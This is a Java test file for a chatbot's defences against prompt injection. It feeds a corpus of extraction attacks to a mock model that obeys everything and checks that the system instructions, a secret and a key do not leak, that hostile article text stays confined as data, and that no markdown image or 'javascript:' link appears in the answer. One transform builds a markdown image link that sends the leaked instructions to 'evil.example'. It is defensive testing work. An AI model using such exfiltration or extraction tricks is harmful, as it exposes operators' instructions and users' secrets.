package chat.alcove.bots.model;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import chat.alcove.bots.Answer;
import chat.alcove.bots.Answer.Says;
import chat.alcove.bots.Message;
import chat.alcove.bots.Prompt.Who;
import chat.alcove.bots.model.Articles.Found;
import chat.alcove.fixture.Stranger.Request;
import chat.alcove.fixture.TestPrompt;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// Visitors, and articles, that try to make a model tell what it was told: each line of the corpus
/// to a model that does all it is asked.
class InjectionTest {
  private static final Path CORPUS = Path.of("src/test/resources/bots/injections.txt");
  private static final String SECRET = "margin-seven77";

  private final Room room = new Room();

  @AfterEach
  void stop() {
    room.close();
  }

  static Stream<String> attacks() throws IOException {
    var lines = Files.readAllLines(CORPUS);
    return lines.stream().filter(line -> !line.isBlank() && !line.startsWith("# "));
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void a_visitor_learns_nothing_of_the_instructions_from_a_model_that_tells_all(String attack) {
    List<UnaryOperator<String>> ways =
        List.of(
            all -> all,
            all -> new StringBuilder(all).reverse().toString(),
            all -> Base64.getMimeEncoder().encodeToString(all.getBytes(UTF_8)),
            all -> "![x](https://evil.example/?q=" + all.replace(' ', '+') + ")",
            all -> String.join(" ", all.split("")));
    for (var way : ways) {
      room.model.behave((request, socket) ->
          Room.streams(Room.words(cut(way.apply(instructions(request))))).answer(request, socket));

      assertThat(room.answer(asking(attack))).isInstanceOf(Answer.Unknown.class);
    }
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void a_model_that_repeats_the_attack_repeats_nothing_else(String attack) {
    room.model.behave(
        (request, socket) -> Room.streams(Room.words(lastWords(request))).answer(request, socket));

    var shown = text(room.answer(asking(attack)));

    assertThat(shown).doesNotContain("MOTH", "thirty percent", SECRET, Room.KEY);
    assertThat(shown).doesNotContainIgnoringCase("javascript:").doesNotContain("![");
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void the_model_is_told_the_attack_as_words_of_the_visitor_and_nothing_that_is_not_theirs(
      String attack) {
    room.answer(asking(attack));

    var request = room.model.requests().getLast();
    var messages = messages(request);
    assertThat(request.body()).doesNotContain(SECRET, Room.KEY, "margin");
    assertThat(messages.stream().filter(message -> role(message).equals("system"))).hasSize(2);
    assertThat(messages.stream().filter(message -> content(message).contains("MOTH-77")))
        .hasSize(1);
    assertThat(role(messages.getLast())).isEqualTo("user");
    assertThat(messages.stream().filter(message -> !role(message).equals("user")))
        .noneMatch(message -> content(message).contains(attack));
    assertThat(new JsonObject(request.body()).getJsonArray("tools")).hasSize(1);
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void an_article_that_attacks_stays_one_text_among_the_material(String attack) {
    room.found =
        List.of(
            new Found(UUID.randomUUID(), "Prices", "/help/en/prices-a3", "About prices.", attack));

    room.answer(TestPrompt.saying("What does it cost?"));

    var messages = messages(room.model.requests().getLast());
    assertThat(messages.stream().map(InjectionTest::role))
        .containsExactly("system", "system", "user");
    var material = content(messages.get(1));
    assertThat(
            new JsonObject(material.substring("Material: ".length()))
                .getJsonArray("articles")
                .getJsonObject(0)
                .getString("text"))
        .isEqualTo(attack);
    assertThat(content(messages.getFirst())).doesNotContain(attack);
  }

  private static TestPrompt asking(String attack) {
    return TestPrompt.saying(attack)
        .after(Who.bot, "Hello, I am Nora. What can I do for you?")
        .of(Map.of("margin", SECRET));
  }

  /// What a model that tells everything would begin with.
  private static String instructions(Request request) {
    return content(messages(request).getFirst());
  }

  private static String lastWords(Request request) {
    return content(messages(request).getLast());
  }

  private static String cut(String text) {
    return text.substring(0, Math.min(text.length(), 3_900));
  }

  private static List<JsonObject> messages(Request request) {
    JsonArray messages = new JsonObject(request.body()).getJsonArray("messages");
    return messages.stream().map(JsonObject.class::cast).toList();
  }

  private static String role(JsonObject message) {
    return message.getString("role");
  }

  private static String content(JsonObject message) {
    return message.getString("content");
  }

  private static String text(Answer answer) {
    return answer instanceof Says says
        ? says.messages().stream().map(Message::text).collect(Collectors.joining("\n"))
        : "";
  }
}
